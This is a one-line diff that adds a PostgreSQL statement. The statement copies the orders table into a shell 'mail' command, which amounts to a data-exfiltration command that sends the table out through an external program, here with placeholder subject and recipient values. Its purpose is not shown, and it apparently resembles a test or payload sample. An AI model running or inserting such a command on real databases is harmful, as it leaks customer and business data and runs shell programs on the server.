@@ -1,0 +1,1 @@
+do $$ begin copy orders to program 'mail -s x y'; end $$;
